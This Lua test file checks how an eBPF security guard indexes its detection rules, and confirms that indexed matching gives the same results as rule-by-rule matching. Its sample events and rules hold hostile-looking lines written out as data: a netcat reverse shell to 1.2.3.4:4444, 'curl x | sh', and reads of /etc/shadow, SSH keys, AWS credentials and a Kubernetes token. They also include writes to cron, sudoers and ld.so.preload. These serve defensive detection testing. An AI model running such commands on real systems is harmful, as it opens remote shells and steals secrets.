-- The rule index (lua/ebpf_guard/compile.lua, rule_key): which rules are
-- filed under which 4-byte words, and that an indexed rule set fires
-- exactly as the same set evaluated rule by rule.
local H = require("helpers.engine")
local compile = require("ebpf_guard.compile")

local function key_of(yaml)
  local path = H.tmpfile(".yaml", yaml)
  local got
  local orig = compile.build
  compile.build = function(rules, env)
    for _, r in ipairs(rules) do
      if r.kind == "yaml" then got = compile.rule_key(r) or false end
    end
    return orig(rules, env)
  end
  local ok, err = pcall(H.new, { path })
  compile.build = orig
  os.remove(path)
  assert(ok, err)
  if not got then return nil end
  local words = {}
  for i, w in ipairs(got.words) do words[i] = w end
  table.sort(words)
  return { got.side .. ":" .. got.field, words }
end

local function word(s)
  local w = 0
  for k = 4, 1, -1 do w = w * 256 + (s:byte(k) or 0) end
  return w
end

local function rule(match, types)
  return ("rules:\n  - id: r\n    description: d\n    event_types: [%s]\n    match:\n%s"):format(types or "open", match)
end

describe("the rule index", function()
  it("files a prefix test under the literals' first 4 bytes", function()
    assert.same({ "pre:filename", { word("/etc"), word("/var") } },
      key_of(rule("      filename: {prefix: [/etc/cron.d/, /var/spool/cron/, /etc/crontab]}\n")))
  end)

  it("files an equality test under the value's bytes, a short one padded with zeros", function()
    assert.same({ "pre:comm", { word("id"), word("sh"), word("bash") } },
      key_of(rule("      comm: [sh, id, bash]\n", "exec")))
  end)

  it("files a suffix test under the literals' last 4 bytes", function()
    assert.same({ "suf:filename", { word("oken") } }, key_of(rule("      filename: {suffix: /token}\n")))
  end)

  it("takes the conjunct with the fewest words, and an anchored regex's literal", function()
    assert.same({ "pre:filename", { word("/pro") } },
      key_of(rule("      comm: [a, b, c]\n      filename: {regex: '^/proc/[0-9]+/mem$'}\n")))
  end)

  it("unites the words of every branch of an any on one field", function()
    assert.same({ "pre:comm", { word("nc"), word("busybox") } },
      key_of(rule("      any:\n        - comm: nc\n        - all:\n            - comm: busybox\n            - args: nc\n", "exec")))
  end)

  it("does not index what an event's word cannot decide", function()
    assert.is_nil(key_of(rule("      filename: {prefix: [/tmp/, ab]}\n")))        -- a prefix under 4 bytes
    assert.is_nil(key_of(rule("      comm: {not: [sh]}\n", "exec")))              -- a negation
    assert.is_nil(key_of(rule("      parent.comm: nginx\n", "exec")))             -- the process context
    assert.is_nil(key_of(rule("      any:\n        - comm: sh\n        - exe: /bin/sh\n", "exec"))) -- two fields
    assert.is_nil(key_of(rule("      filename: {regex: 'shadow'}\n")))           -- no anchored literal
  end)

  it("files a bucket's long literals under their next 4 bytes as well (the deeper levels)", function()
    local key = { side = "pre", p = "e.filename", lits = { "/etc/shadow", "/etc/gshadow", "/var/spool/cron/" } }
    local etc = compile.bucket_lits(key, word("/etc"))
    assert.same({ "/etc/shadow", "/etc/gshadow" }, etc)
    assert.same({ [word("/sha")] = { "/etc/shadow" }, [word("/gsh")] = { "/etc/gshadow" } }, compile.next_words(etc, 5))
    assert.same({ [word("adow")] = { "/etc/gshadow" } }, compile.next_words({ "/etc/gshadow" }, 9))
    -- a literal ending before the next 4 bytes: the rule runs for every string at its node
    assert.is_nil(compile.next_words({ "/etc/", "/etc/shadow" }, 5))
    assert.is_nil(compile.next_words({ "/etc/shadow" }, 9))
    assert.is_nil(compile.next_words({}, 5))
    -- suffixes and the program's name stay on one level
    assert.is_nil(compile.bucket_lits({ side = "suf", p = "e.filename", lits = { "/etc/shadow" } }, word("adow")))
    assert.is_nil(compile.bucket_lits({ side = "pre", p = "NMP", lits = { "python3.11" } }, word("pyth")))
  end)

  it("fires exactly as the rules evaluated one by one, on the stock set and a corpus", function()
    local corpus = os.tmpname()
    assert(os.execute("build/eg_bench_engine -n 30000 --write " .. corpus .. " >/dev/null 2>&1") == 0)
    -- inline events exercising short strings, missing strings and the suffix index
    local extra = {
      { type = "exec", comm = "sh", filename = "/bin/sh", exe = "/usr/bin/dash", args = { "sh", "-c", "curl x | sh" } },
      { type = "exec", comm = "id", filename = "id", args = { "id" } },
      { type = "open", comm = "cat", filename = "/run/secrets/kubernetes.io/serviceaccount/token", ret = 3 },
      { type = "open", comm = "a", filename = "", ret = 3 },
      { type = "open", comm = "grep", filename = "/root/.bash_history", ret = 3 },
      -- the second level: strings of the same first 4 bytes, long and short
      { type = "open", comm = "cat", filename = "/etc/shadow", ret = 3 },
      { type = "open", comm = "cat", filename = "/etc/gshadow-", ret = 3 },
      { type = "open", comm = "cat", filename = "/etc/sh", ret = 3 },
      { type = "open", comm = "cat", filename = "/etc/", ret = 3 },
      { type = "open", comm = "vi", filename = "/etc/cron.d/job", ret = 3, open_flags = 577 },
      { type = "open", comm = "vi", filename = "/etc/ld.so.preload", ret = 3, open_flags = 577 },
      { type = "open", comm = "vi", filename = "/etc/sudoers.d/x", ret = 3, open_flags = 577 },
      { type = "open", comm = "vi", filename = "/etc/systemd/system/x.service", ret = 3, open_flags = 577 },
      { type = "open", comm = "vi", filename = "/var/spool/cron/crontabs/root", ret = 3, open_flags = 577 },
      { type = "open", comm = "cat", filename = "/home/u/.ssh/id_rsa", ret = 3 },
      { type = "open", comm = "cat", filename = "/home/u/.aws/credentials", ret = 3 },
      { type = "open", comm = "cat", filename = "/proc/1/mem", ret = 3 },
      { type = "exec", comm = "sh", filename = "/tmp/.x/run", exe = "/tmp/.x/run", args = { "run" } },
      { type = "exec", comm = "sh", filename = "/usr/bin/nc", exe = "/usr/bin/nc.openbsd", args = { "nc", "-e", "/bin/sh", "1.2.3.4", "4444" } },
    }
    local fired = {}
    for _, on in ipairs({ true, false }) do
      compile.INDEX = on
      local eng = assert(H.new({ "rules" }))
      local a = H.fired((H.run(eng, corpus)))
      local b = H.fired((H.run(eng, extra)))
      fired[#fired + 1] = { a, b }
    end
    compile.INDEX = true
    os.remove(corpus)
    assert.is_true(#fired[1][1] > 100)
    assert.is_true(#fired[1][2] > 8)
    assert.same(fired[2], fired[1])
  end)
end)
